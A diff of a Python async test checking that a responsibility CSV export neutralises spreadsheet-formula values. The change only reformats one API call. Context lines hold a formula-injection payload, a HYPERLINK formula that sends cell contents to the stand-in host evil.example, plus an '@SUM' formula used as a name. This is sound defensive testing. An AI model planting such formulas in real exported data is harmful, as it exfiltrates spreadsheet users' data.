@@ -92,7 +92,8 @@ async def test_the_responsibility_csv_quotes_a_name_a_spreadsheet_would_run_as_a
         formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
         dept = (await sup.post("/api/departments", json={"code": "f1", "name": formula})).json()
         tech = await sup.post(
-            "/api/technicians", json={"name": "@SUM(1+1)", "phone": "13800138009", "department_id": dept["id"]}
+            "/api/technicians",
+            json={"name": "@SUM(1+1)", "phone": "13800138009", "department_id": dept["id"]},
         )
         assert tech.status_code == 201, tech.text
         await _dispatch_to(sup, "漏水", tech.json()["id"])
